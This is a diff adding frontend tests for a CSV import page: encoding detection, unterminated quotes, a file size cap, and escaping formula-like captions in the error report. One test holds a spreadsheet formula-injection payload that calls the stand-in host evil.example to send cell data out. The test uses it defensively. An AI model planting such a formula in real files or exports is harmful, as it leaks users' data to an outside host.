@@ -1,6 +1,6 @@
 import { fireEvent, screen, waitFor, within } from '@testing-library/react';
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
-import { IMPORT_COLUMNS, IMPORT_MSG, parseImportCsv, type ImportRequest } from '@shared/import';
+import { IMPORT_COLUMNS, IMPORT_MAX_FILE_BYTES, IMPORT_MSG, parseImportCsv, type ImportRequest } from '@shared/import';
 import { planLimitMessage } from '@shared/plans';
 import { resetAmplifyMocks, signedInAs } from './helpers/amplify-mocks';
 import { meResponse, mockApi, shellRoutes, socialAccount } from './helpers/api-mock';
@@ -125,6 +125,26 @@ describe('the Import page', () => {
     expect(text).toContain('Taken meanwhile');
   });
 
+  it('writes a formula-like caption into the error report as text a spreadsheet will not run, and reads it back unchanged', async () => {
+    // Prepare: a file whose caption would phone home from a spreadsheet if written as it is
+    const saved = downloads();
+    importApi();
+    await openImport();
+    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
+    chooseFile(['date,time,platforms,caption', `${NEXT_YEAR}-03-02,9.30am,facebook,"${formula.replace(/"/g, '""')}"`].join('\n'));
+    await screen.findByText('1 invalid');
+
+    // Act
+    fireEvent.click(screen.getByRole('button', { name: 'Download error report' }));
+
+    // Assess
+    const text = await readText(saved.at(-1)!);
+    expect(text).toContain(`"'${formula.replace(/"/g, '""')}"`);
+    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
+    const back = parseImportCsv(text);
+    expect(back.ok && back.rows[0]!.fields.caption).toBe(formula);
+  });
+
   it("marks valid rows past this month's allowance invalid, as the server would", async () => {
     importApi({ used: 4 });
     await openImport();
@@ -139,6 +159,59 @@ describe('the Import page', () => {
     await openImport();
     chooseFile('when,caption\n2026-01-01,hi');
     expect(await screen.findByText(IMPORT_MSG.missingColumns(['date', 'time', 'platforms']))).toBeInTheDocument();
+    expect(screen.queryByTestId('preview-row')).toBeNull();
+    expect(api.callsTo('POST', '/posts/import')).toEqual([]);
+  });
+
+  it('reads a file saved as Windows-1252 with its accents intact, and warns that it was not UTF-8', async () => {
+    // Prepare: "Café" as Excel's plain "CSV" saves it on Windows (é is the single byte 0xE9)
+    importApi();
+    await openImport();
+    const bytes = Uint8Array.from(Buffer.from(`date,time,platforms,caption\n${NEXT_YEAR}-03-02,09:30,facebook,Caf\xe9 cr\xe8me`, 'latin1'));
+
+    // Act
+    fireEvent.change(screen.getByLabelText('Choose a CSV file'), { target: { files: [new File([bytes], 'posts.csv', { type: 'text/csv' })] } });
+
+    // Assess
+    expect(await screen.findByText(IMPORT_MSG.notUtf8)).toBeInTheDocument();
+    expect(rowsShown()[0]![3]).toBe('Café crème');
+  });
+
+  it('reads a UTF-8 file without a warning', async () => {
+    importApi();
+    await openImport();
+    chooseFile(`date,time,platforms,caption\n${NEXT_YEAR}-03-02,09:30,facebook,Café crème`);
+    await screen.findByText('1 valid');
+    expect(rowsShown()[0]![3]).toBe('Café crème');
+    expect(screen.queryByText(IMPORT_MSG.notUtf8)).toBeNull();
+  });
+
+  it('refuses a file whose quote is never closed, naming the row, instead of merging the rows after it', async () => {
+    const api = importApi();
+    await openImport();
+
+    chooseFile(
+      [
+        CSV.split('\n')[0],
+        `${NEXT_YEAR}-03-02,09:30,facebook,Fine`,
+        `${NEXT_YEAR}-03-02,10:30,facebook,"Opens here`,
+        `${NEXT_YEAR}-03-03,10:00,facebook,Swallowed`,
+      ].join('\n'),
+    );
+
+    expect(await screen.findByText(IMPORT_MSG.unterminatedQuote(2, 3))).toBeInTheDocument();
+    expect(screen.queryByTestId('preview-row')).toBeNull();
+    expect(api.callsTo('POST', '/posts/import')).toEqual([]);
+  });
+
+  it('refuses a file over the size cap with a clear message before reading it', async () => {
+    const api = importApi();
+    await openImport();
+    const big = new File([new Uint8Array(IMPORT_MAX_FILE_BYTES + 1)], 'huge.csv', { type: 'text/csv' });
+
+    fireEvent.change(screen.getByLabelText('Choose a CSV file'), { target: { files: [big] } });
+
+    expect(await screen.findByText(IMPORT_MSG.fileTooLarge(IMPORT_MAX_FILE_BYTES + 1))).toBeInTheDocument();
     expect(screen.queryByTestId('preview-row')).toBeNull();
     expect(api.callsTo('POST', '/posts/import')).toEqual([]);
   });
